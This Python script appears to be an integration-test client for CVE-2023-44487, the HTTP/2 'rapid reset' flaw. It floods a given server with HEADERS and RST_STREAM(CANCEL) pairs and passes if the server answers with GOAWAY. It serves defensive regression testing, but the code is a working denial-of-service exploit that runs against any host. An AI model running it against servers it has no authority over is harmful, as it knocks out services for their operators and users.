#!/usr/bin/python3
"""CVE-2023-44487 ("rapid reset") client for the integration tests.

Opens one HTTP/2 cleartext connection (prior knowledge) to HOST PORT, then
sends HEADERS + RST_STREAM(CANCEL) pairs for up to N streams as fast as the
socket takes them, reading what the server sends. Prints "GOAWAY <code>" and
exits 0 when the server sends GOAWAY; exits 1 if all N streams were sent
without one (the server tolerated the attack), 2 on a connection error before
any GOAWAY. Uses Debian's python3-h2.
"""
import socket
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events


def main() -> int:
    host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/reset"), (":scheme", "http"), (":authority", host)]
    sock.setblocking(False)
    goaway = None
    sent = 0
    for i in range(n):
        sid = conn.get_next_available_stream_id()
        try:
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
        except Exception:  # the connection is closed on our side (GOAWAY seen)
            break
        try:
            sock.sendall(conn.data_to_send())
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            break
        sent += 1
        try:
            data = sock.recv(65536)
            if not data:
                break
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = ev.error_code
        except BlockingIOError:
            pass
        except Exception:
            break
        if goaway is not None:
            break
    # Read what is left until the server closes.
    sock.setblocking(True)
    sock.settimeout(5)
    while goaway is None:
        try:
            data = sock.recv(65536)
        except OSError:
            break
        if not data:
            break
        try:
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = ev.error_code
        except Exception:
            break
    if goaway is not None:
        print(f"GOAWAY {int(goaway)} after {sent} streams")
        return 0
    print(f"no GOAWAY after {sent} streams")
    return 1 if sent == n else 2


if __name__ == "__main__":
    sys.exit(main())
